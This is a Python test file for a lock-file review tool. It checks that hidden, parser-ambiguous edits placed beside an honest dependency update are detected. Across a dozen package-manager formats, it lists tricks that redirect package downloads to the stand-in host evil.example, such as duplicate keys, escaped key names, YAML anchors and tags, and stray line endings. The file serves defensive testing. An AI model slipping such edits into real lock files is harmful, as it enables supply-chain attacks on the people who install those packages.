"""What two programs may read in two ways in a lock file, beside an honest update."""

import pytest

from agents.review.checks.locks.comparison import compare
from tests.unit.checks import test_locks as honest

EVIL = "https://evil.example/left.tgz"
HONEST = {f"{path} {base[:6].strip()}".split(" {")[0]: (path, base, head) for path, base, head in honest.UPDATES[:12]}
NPM, CARGO, YARN, BERRY, PNPM, GO, POETRY, UV, PIPFILE, COMPOSER, GEMFILE, NUGET = HONEST

# Case → the format, and what takes the place of what in the honest update.
NPM_LEFT = '"node_modules/left": {'
PNPM_LEFT = "integrity: sha512-c=}"
GEM_REMOTE = "  remote: https://gems.example/\n"
SNAPSHOT = "snapshots:\n\n  left@1.1.0: {}"
HOSTILE = {
    "npm: a key twice": (
        NPM,
        f'"{honest.REGISTRY}/left-1.1.0.tgz",',
        f'"{honest.REGISTRY}/left-1.1.0.tgz","resolved":"{EVIL}",',
    ),
    "npm: a key twice, escaped": (NPM, '"sha512-b="', f'"sha512-b=", "\\u0072esolved": "{EVIL}"'),
    "npm: a package twice": (
        NPM,
        NPM_LEFT,
        f'"node_modules/left": {{"version": "9.0.0", "resolved": "{EVIL}"}}, {NPM_LEFT}',
    ),
    "yarn: 3 spaces": (YARN, "  integrity", f'   resolved "{EVIL}"\n  integrity'),
    "yarn: a tab": (YARN, "  integrity", f'\tresolved "{EVIL}"\n  integrity'),
    "yarn: escaped": (YARN, "  integrity", f'  "r\\u0065solved" "{EVIL}"\n  integrity'),
    "yarn: a key twice": (YARN, "  integrity", f'  resolved "{EVIL}"\n  integrity'),
    "yarn: a key with a colon": (YARN, "  integrity", f'  resolved: "{EVIL}"\n  integrity'),
    "yarn: a package twice": (YARN, '"@a/left@^1":', '"@a/left@^1", "@a/left@^1":'),
    "yarn: another end of a line": (YARN, "  integrity", f'  version "1.1.0"\r  resolved "{EVIL}"\n  integrity'),
    "yarn: read as the other version": (
        YARN,
        "# yarn lockfile v1\n",
        "# yarn lockfile v1\n__metadata:\n  version: 8\n",
    ),
    "Berry: a reference": (BERRY, "  checksum: 10c0/bb", f'  checksum: &a 10c0/bb\n  "resolution": "left@{EVIL}"'),
    "Berry: a name in other letters": (
        BERRY,
        "left@npm:1.1.0",
        "left@npm:1.1.0::%5F%5FarchiveUrl=https%3A%2F%2Fevil.example%2Fa",
    ),
    "Berry: a merge": (BERRY, "  checksum: 10c0/bb", f'  <<: {{resolution: "left@{EVIL}"}}\n  checksum: 10c0/bb'),
    "Berry: a tag": (BERRY, "  version: 1.1.0", "  version: !!str 1.1.0"),
    "Berry: a package twice": (BERRY, '"left@npm:^1.0.0":', '"left@npm:^1.0.0,left@npm:^1.0.0":'),
    "Berry: another document": (BERRY, "linkType: soft\n", 'linkType: soft\n---\n"a@npm:1":\n  version: 1\n'),
    "Berry: read as version 1": (BERRY, "__metadata:", "# yarn lockfile v1\n__metadata:"),
    "Berry: a key of many lines": (BERRY, "  checksum", f'  ? resolution\n  : "left@{EVIL}"\n  checksum'),
    "pnpm: a key twice": (PNPM, PNPM_LEFT, "integrity: sha512-c=, 'integrity': sha512-x=}"),
    "pnpm: a reference": (PNPM, PNPM_LEFT, f"integrity: sha512-c=, tarball: &a {EVIL}}}"),
    "pnpm: escaped": (PNPM, PNPM_LEFT, f'integrity: sha512-c=, "t\\x61rball": {EVIL}}}'),
    "pnpm: a tag": (PNPM, PNPM_LEFT, f"integrity: sha512-c=, tarball: !!str {EVIL}}}"),
    "pnpm: many lines": (PNPM, PNPM_LEFT, f"integrity: sha512-c=,\n      tarball:\n        {EVIL}}}"),
    "pnpm: a mapping in a mapping": (
        PNPM,
        "    engines: {node: '>=6'}",
        f"    engines: {{node: '>=6'}}\n    resolution: {{tarball: {EVIL}}}",
    ),
    "pnpm: a section twice": (
        PNPM,
        "snapshots:",
        f"'packages':\n  left@1.1.0:\n    resolution: {{tarball: {EVIL}}}\nsnapshots:",
    ),
    "pnpm: a package of no entry": (PNPM, SNAPSHOT, f"{SNAPSHOT}\n  evil@1.0.0: {{}}"),
    "pnpm: another document": (PNPM, "lockfileVersion", "---\na: b\n---\nlockfileVersion"),
    "go: a hash twice": (GO, "v1.1.0 h1:cc=\n", "v1.1.0 h1:cc=\nexample.org/left v1.1.0 h1:evil=\n"),
    "go: a tab": (GO, "example.org/left v1.1.0 h1:cc=", "example.org/left\tv1.1.0 h1:cc="),
    "go: another end of a line": (GO, "h1:cc=\n", "h1:cc=\x0bexample.org/evil v1.0.0 h1:x=\n"),
    "go: a comment": (GO, "h1:cc=\n", "h1:cc= // h1:x=\n"),
    "go: another hash": (GO, "v1.1.0 h1:cc=", "v1.1.0 h2:cc="),
    "go: an empty line": (GO, "h1:cc=\n", "h1:cc=\n\n"),
    "poetry: a key twice": (POETRY, 'name = "left"', 'name = "left"\n"name" = "evil"'),
    "poetry: an address of a file": (
        POETRY,
        '{file = "left-1.1.0.tar.gz"',
        f'{{url = "{EVIL}", file = "left-1.1.0.tar.gz"',
    ),
    "poetry: a source": (POETRY, "[metadata]", f'[package.source]\ntype = "legacy"\nurl = "{EVIL}"\n\n[metadata]'),
    "poetry: a source, dotted": (
        POETRY,
        "optional = false",
        f'optional = false\nsource.type = "url"\nsource.url = "{EVIL}"',
    ),
    "uv: a key twice": (UV, 'version = "1.1.0"', 'version = "1.1.0"\n"version" = "9.0.0"'),
    "Cargo: a key twice": (CARGO, 'name = "left"', 'name = "left"\n"name" = "evil"'),
    "Cargo: a source of git, escaped": (
        CARGO,
        '"registry+https://index.example/crates"',
        f'"\\u0067it+{EVIL}#{"a" * 40}"',
    ),
    "pipenv: a key twice": (PIPFILE, '"version": "==1.1.0"', '"version": "==1.1.0", "version": "==9.0.0"'),
    "composer: a key twice": (
        COMPOSER,
        '"type": "library"',
        f'"type": "library", "dist": {{"type": "zip", "url": "{EVIL}"}}',
    ),
    "composer: escaped": (
        COMPOSER,
        '"type": "library"',
        f'"type": "library", "d\\u0069st": {{"type": "zip", "url": "{EVIL}"}}',
    ),
    "composer: a section twice": (COMPOSER, '"packages-dev": []', '"packages-dev": [], "packages": []'),
    "bundler: another end of a line": (GEMFILE, GEM_REMOTE, f"{GEM_REMOTE}  remote: {EVIL}\r"),
    "bundler: 3 spaces": (GEMFILE, GEM_REMOTE, f"{GEM_REMOTE}   remote: {EVIL}\n"),
    "bundler: two spaces after the colon": (GEMFILE, GEM_REMOTE, f"{GEM_REMOTE}  remote:  {EVIL}\n"),
    "bundler: another section": (
        GEMFILE,
        "PLATFORMS",
        f"PLUGIN SOURCE\n  remote: {EVIL}\n  specs:\n    left (1.1.0)\n\nPLATFORMS",
    ),
    "bundler: a section within another": (
        GEMFILE,
        "PLATFORMS",
        f"GIT\n  remote: {EVIL}\n  revision: a\n  specs:\n    left (1.1.0)\nPLATFORMS",
    ),
    "bundler: a source of nothing": (GEMFILE, "PLATFORMS", f"GEM\n  remote: {EVIL}\n  specs:\n\nPLATFORMS"),
    "bundler: a package twice": (GEMFILE, "    right", "    left (1.1.0)\n    right"),
    "NuGet: a key twice": (NUGET, '"resolved": "1.1.0"', '"resolved": "1.1.0", "resolved": "9.0.0"'),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_what_is_hidden_beside_an_update_is_found_or_counts_as_unread(case: str) -> None:
    kind, part, hidden = HOSTILE[case]
    path, base, head = HONEST[kind]
    assert part in head
    found = compare(path, base, head.replace(part, hidden, 1))
    assert found.faults or not found.is_read


def test_a_comment_of_requirements_ends_with_its_line() -> None:
    """Whatever is its last character: what follows is asked for."""
    found = compare("requirements.txt", "left==1.0.0\n", f"left==1.1.0\n# see docs \\\nevil @ {EVIL}\n")
    assert [each.rule for each in found.faults] == ["other-host"]
    joined = compare("requirements.txt", "left==1.0.0\n", "left==1.1.0 \\\n# and\nright==1.0.0\n")
    assert joined.added == (("left", "1.1.0"), ("right", "1.0.0"))
